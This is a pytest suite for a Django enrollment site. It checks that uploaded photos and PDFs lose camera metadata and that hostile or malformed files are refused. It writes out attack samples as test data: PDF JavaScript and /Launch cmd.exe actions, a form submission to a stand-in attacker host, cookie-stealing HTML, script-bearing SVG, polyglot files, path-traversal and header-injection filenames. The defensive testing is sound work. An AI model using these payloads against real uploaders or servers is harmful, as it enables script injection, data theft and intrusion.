"""What hostile or careless people upload: everything is refused with its reason, or loses what nobody needs to know."""

from io import BytesIO

import pytest
from django.urls import reverse
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from enrollment.actions import papers
from enrollment.errors import PaperRefused
from enrollment.models import Paper
from enrollment.models.paper import MAX_BYTES
from tests.enrollment.apply_pages import page, pdf, picture, signed_in, upload
from tests.factories.centers import PaperRuleFactory
from tests.factories.enrollment import ApplicationFactory

pytestmark = pytest.mark.django_db

SECRET = b"SEOUL-37.5665N"
ORIENTATION, DESCRIPTION, GPS = 0x0112, 0x010E, 0x8825


@pytest.fixture
def draft():
    return ApplicationFactory()


@pytest.fixture
def rule(draft):
    return PaperRuleFactory(program_year=draft.program_year)


def add(draft, rule, name, data):
    return papers.add(draft, rule, upload(name, data), by=draft.applicant)


def photograph(orientation=6, **how):
    """A telephone's picture: where it was taken, with what, which way up, and a comment."""
    exif = Image.Exif()
    exif[DESCRIPTION] = SECRET.decode()
    exif[ORIENTATION] = orientation
    exif.get_ifd(GPS)[1] = "N"
    out = BytesIO()
    image = Image.effect_noise((64, 48), 80).convert("RGB")
    image.save(out, "JPEG", exif=exif, comment=SECRET, xmp=b"<x:xmpmeta>" + SECRET, **how)
    return out.getvalue()


@pytest.mark.parametrize("how", [{}, {"progressive": True}, {"quality": 20, "restart_marker_rows": 1}], ids=str)
def test_a_photograph_loses_what_the_camera_noted_and_no_pixel(draft, rule, how):
    data = photograph(**how)
    assert data.count(SECRET) == 3

    kept = add(draft, rule, "사진.jpg", data).file.read()

    assert SECRET not in kept
    with Image.open(BytesIO(data)) as before, Image.open(BytesIO(kept)) as after:
        assert before.tobytes() == after.tobytes()
        assert dict(after.getexif()) == {ORIENTATION: 6}


def test_an_upright_photograph_keeps_no_exif_at_all(draft, rule):
    kept = add(draft, rule, "사진.jpg", photograph(orientation=1)).file.read()

    assert b"Exif" not in kept


def test_the_film_behind_a_photograph_is_cut_off(draft, rule):
    kept = add(draft, rule, "사진.jpg", photograph() + b"\0\0\0\x18ftypmp42" + SECRET * 9).file.read()

    assert kept.endswith(b"\xff\xd9")
    assert SECRET not in kept


def test_a_colour_profile_stays(draft, rule):
    out = BytesIO()
    Image.new("RGB", (8, 8)).save(out, "JPEG", icc_profile=b"profile of a screen")

    kept = add(draft, rule, "사진.jpg", out.getvalue()).file.read()

    assert b"profile of a screen" in kept


def test_a_png_loses_its_texts_and_no_pixel(draft, rule):
    noted, out = PngInfo(), BytesIO()
    noted.add_text("Author", SECRET.decode())
    noted.add_itxt("Comment", SECRET.decode(), zip=True)
    exif = Image.Exif()
    exif[DESCRIPTION] = SECRET.decode()
    image = Image.effect_noise((40, 40), 50)
    image.save(out, "PNG", pnginfo=noted, exif=exif)

    kept = add(draft, rule, "화면.png", out.getvalue()).file.read()

    assert SECRET not in kept
    assert not {b"tEXt", b"iTXt", b"zTXt", b"eXIf"} & {kept[i : i + 4] for i in range(len(kept))}
    with Image.open(BytesIO(kept)) as after:
        assert after.tobytes() == image.tobytes()


def test_a_png_whose_sums_are_wrong_is_refused(draft, rule):
    data = bytearray(picture("PNG"))
    data[20] ^= 1

    with pytest.raises(PaperRefused, match="깨져 있거나"):
        add(draft, rule, "a.png", bytes(data))


def written(change, named=b""):
    writer, out = PdfWriter(), BytesIO()
    writer.add_blank_page(200, 200)
    change(writer)
    writer.write(out)
    data = out.getvalue()
    return data.replace(*named) if named else data


def action(kind, **more):
    return DictionaryObject(
        {NameObject("/S"): NameObject(kind)} | {NameObject(f"/{k}"): TextStringObject(v) for k, v in more.items()}
    )


def at_opening(kind, **more):
    return lambda writer: writer.root_object.update({NameObject("/OpenAction"): action(kind, **more)})


def on_the_page(subtype):
    note = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype)})
    return lambda writer: writer.pages[0].update({NameObject("/Annots"): ArrayObject([writer._add_object(note)])})


def deep(writer):
    holder = DictionaryObject({NameObject("/A"): action("/JavaScript", JS="app.alert(1)")})
    for _ in range(40):
        holder = DictionaryObject({NameObject("/Kids"): ArrayObject([writer._add_object(holder)])})
    writer.root_object[NameObject("/Outlines")] = writer._add_object(holder)


def by_name(writer):
    scripts = ArrayObject([TextStringObject("print"), writer._add_object(action("/JavaScript", JS="this.print()"))])
    names = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): scripts})})
    writer.root_object[NameObject("/Names")] = names


def form(writer):
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp/>")})


RUNS = "실행되는 내용"
ACTIVE = {
    "script when opened": (written(at_opening("/JavaScript", JS="app.alert(1)")), RUNS),
    "script by name": (written(by_name), RUNS),
    "script deep down": (written(deep), RUNS),
    "script in other letters": (
        written(at_opening("/JavaScript", JS="1"), named=(b"/JavaScript", b"/Java#53cript")),
        RUNS,
    ),
    "starts a program": (written(at_opening("/Launch", F="cmd.exe")), RUNS),
    "sends a form": (written(at_opening("/SubmitForm", F="https://evil.example")), RUNS),
    "opens another file": (written(at_opening("/GoToR", F="//server/share")), RUNS),
    "film": (written(on_the_page("/RichMedia")), RUNS),
    "dynamic form": (written(form), RUNS),
    "attachment": (written(lambda writer: writer.add_attachment("a.exe", b"MZ")), "다른 파일이 붙어"),
    "attachment on a page": (written(on_the_page("/FileAttachment")), "다른 파일이 붙어"),
}


@pytest.mark.parametrize(("data", "cause"), ACTIVE.values(), ids=ACTIVE)
def test_a_pdf_that_does_something_is_refused_with_a_way_out(draft, rule, data, cause):
    with pytest.raises(PaperRefused) as refusal:
        add(draft, rule, "증명원.pdf", data)

    assert cause in str(refusal.value)
    assert "'PDF로 저장'" in str(refusal.value)
    assert Paper.objects.count() == 0


def linked(writer):
    here = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit"), NumberObject(0)])
    writer.root_object[NameObject("/OpenAction")] = here
    on_the_page("/Link")(writer)


def test_a_pdf_that_opens_at_a_page_and_has_links_is_taken_as_it_is(draft, rule):
    data = written(linked)

    assert add(draft, rule, "증명원.pdf", data).file.read() == data


def test_a_pdf_of_very_many_parts_is_not_looked_through_for_ever(draft, rule):
    def many(writer):
        writer.root_object[NameObject("/Junk")] = ArrayObject([ArrayObject() for _ in range(60_001)])

    with pytest.raises(PaperRefused, match="너무 복잡해"):
        add(draft, rule, "증명원.pdf", written(many))


HTML = b"<!doctype html><script>alert(document.cookie)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
TRICKS = {
    "html in a pdf's name": ("증명원.pdf", HTML),
    "svg with a script": ("그림.svg", SVG),
    "svg in a png's name": ("그림.png", SVG),
    "picture and page in one": ("a.jpg", picture()[:-2] + HTML + b"\xff\xd9"),
    "pdf and page in one": ("a.pdf", pdf() + HTML),
    "picture and program in one": ("a.exe.jpg", b"MZ" + picture()),
    "11 MB": ("a.jpg", photograph() + b"0" * (MAX_BYTES + 1024 * 1024)),
    "wrong ending": ("a.php", picture()),
    "two endings": ("a.jpg.html", picture()),
    "reversed name": ("\u202egpj.exe", b"MZ" * 40),
    "name with a resident number": ("900101-1234567.jpg", picture()),
    "name with a hidden resident number": ("９００１０１\u200b1234567.jpg", picture()),
}


@pytest.mark.parametrize(("name", "data"), TRICKS.values(), ids=TRICKS)
def test_a_trick_is_answered_on_the_page_and_leaves_nothing(draft, rule, name, data):
    response = signed_in(draft.applicant).post(page(draft, "papers"), {f"paper_{rule.pk}": upload(name, data)})

    html = response.content.decode()
    assert response.status_code == 200
    assert "올리지 못한 파일이 1개 있습니다" in html
    assert "1234567" not in html
    assert Paper.objects.count() == 0


@pytest.mark.parametrize(
    "name", ["a\0b.jpg", "\u202egpj.jpg", "../../etc/passwd.jpg", "<b>.jpg", '".jpg', "a\r\nSet-Cookie: x.jpg"]
)
def test_an_odd_name_is_harmless_in_the_answer_that_serves_it(draft, rule, name):
    paper = add(draft, rule, name, picture())

    response = signed_in(draft.applicant).get(reverse("enrollment:paper", args=[paper.pk]))

    assert response.status_code == 200
    assert not any({"\r", "\n"} & set(value) for value in response.headers.values())
    assert "Set-Cookie" not in response.headers
    assert not {"\0", "\u202e", "/"} & set(paper.original_name)
